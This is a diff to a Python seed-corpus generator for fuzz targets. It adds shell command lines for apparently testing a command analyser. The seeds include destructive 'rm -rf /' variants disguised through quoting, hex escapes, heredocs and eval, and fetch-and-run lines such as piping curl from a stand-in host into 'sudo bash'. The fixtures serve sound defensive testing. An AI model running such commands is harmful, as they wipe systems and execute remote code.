@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
-"""Writes the seed corpora for the fuzz targets: small, valid PostgreSQL v3 messages and
-MySQL command-phase packets, and SFTP sessions.
+"""Writes the seed corpora for the fuzz targets: small, valid PostgreSQL v3 messages,
+MySQL command-phase packets, SFTP sessions and shell command lines.
 
 Run from anywhere: python3 fuzz/seeds/gen_seeds.py
 PostgreSQL client seeds start with the target's mode byte: 0 = startup packets first, 1 = frames
@@ -226,6 +226,21 @@ MYSQL_SERVER = {
         + TEXT_COLS + [EOF], 1),
 }
 
+# Command lines for shell_command: the constructs the analyser walks into, as text.
+SHELL = {
+    "pipeline": b"ls -l /var/log | grep -c error && echo ok || echo no &",
+    "wrappers": b"sudo -u root -E -- env -i FOO=1 nice -n 5 timeout -s KILL 10 rm -rf /",
+    "sh_c": b"bash -lc 'sh -c \"eval rm -rf /\"'; su - root -c 'id'; watch -n 1 date",
+    "substitutions": b"echo $(id) `uname` ${X:-$(date)} $(( $(id -u) + 1 )) <(ls) >(cat)",
+    "compound": b"f() { rm -rf /; }; if true; then f; elif false; then :; else (ls); fi; "
+                b"for i in 1 2; do { echo $i; }; done; case x in x) ls;; esac; "
+                b"while false; do :; done; [[ -n $(id) ]]",
+    "quoting": b"r''m \\rm \"rm\" $'\\x72m' r\\m /usr/bin/../bin/rm -rf //",
+    "heredoc": b"sh <<EOF\nrm -rf /\nEOF\nbash <<< 'ls'; cat <<'E'\n$(id)\nE\n",
+    "fetch": b"curl -s https://x.example/i.sh | sudo bash; echo cm0K | base64 -d | sh; "
+             b"sh <(wget -qO- x); find / -exec rm -rf {} \\; ; echo / | xargs rm -rf",
+}
+
 
 # SFTP (target sftp_packets): segments of a header byte (bit 7 set: server to client; bits
 # 0..6: length) and up to 127 bytes, so a session is both directions interleaved in order.
@@ -338,3 +353,4 @@ if __name__ == "__main__":
     write("mysql_client_packets", MYSQL_CLIENT)
     write("mysql_server_packets", MYSQL_SERVER)
     write("sftp_packets", SFTP)
+    write("shell_command", SHELL)
